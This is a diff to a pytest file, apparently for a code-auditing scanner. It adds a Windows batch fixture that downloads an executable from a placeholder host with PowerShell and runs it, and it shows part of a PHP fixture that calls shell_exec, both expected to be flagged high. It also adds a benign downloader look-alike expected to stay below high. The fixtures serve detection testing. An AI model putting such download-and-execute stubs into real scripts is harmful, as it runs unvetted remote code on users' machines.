@@ -139,8 +139,15 @@ PHP = ("<?php\n$mirror = 'ext-helpers' . '.' . 'example-cdn' . '.net';\n$target 
        "shell_exec(escapeshellarg($target) . ' --install');\n")
 
 
+BATCH = ("@echo off\r\nsetlocal\r\nset \"SRV=build-tools.example-cdn.net\"\r\nset \"PKG=tc-helper.exe\"\r\n"
+         "set \"DEST=%TEMP%\\%RANDOM%-%PKG%\"\r\npowershell -NoProfile -Command \"Invoke-WebRequest -UseBasicParsing -Uri "
+         "('https://' + $env:SRV + '/dl/' + $env:PKG) -OutFile $env:DEST\"\r\n"
+         "if exist \"%DEST%\" start \"\" /b \"%DEST%\" --register\r\nendlocal\r\n")
+
+
 @pytest.mark.parametrize("name,text", [("scripts/valida.R", R_HEX), ("hooks/pre-commit", GIT_HOOK),
-                                       ("scripts/bootstrap.php", PHP)], ids=["r-hex", "git-hook", "php"])
+                                       ("scripts/bootstrap.php", PHP), ("scripts/setup.cmd", BATCH)],
+                         ids=["r-hex", "git-hook", "php", "batch"])
 def test_code_read_by_what_it_can_do_in_more_languages(name, text):
     rules = {f.rule: f.severity for f in audit_bytes(text.encode(), name)}
     assert "high" in rules.values(), rules
@@ -152,7 +159,9 @@ def test_code_read_by_what_it_can_do_in_more_languages(name, text):
     ("scripts/a.php", ("<?php\n$page = @file_get_contents(\"https://example.org/feed\");\n"
                        "file_put_contents($cache, $page);\n$this->render($cache);\n")),
     ("scripts/a.R", "x <- strtoi(c(\"ff\", \"10\"), 16L)\nprint(rawToChar(as.raw(x)))\nsystem(\"make report\")\n"),
-], ids=["data-then-editor", "php-feed-rendered", "r-decoded-printed"])
+    ("scripts/geo.sh", ("#!/bin/bash\npython scripts/sra_fetch.py download GSE1 -o ./fastq -i\n"
+                        "python scripts/sra_fetch.py samplesheet GSE1 --fastq-dir ./fastq -o sheet.csv\n")),
+], ids=["data-then-editor", "php-feed-rendered", "r-decoded-printed", "a-downloader-run-twice"])
 def test_look_alikes_of_the_new_joins_stay_below_high(name, text):
     rules = {f.rule: f.severity for f in audit_bytes(text.encode(), name)}
     assert "high" not in rules.values(), rules
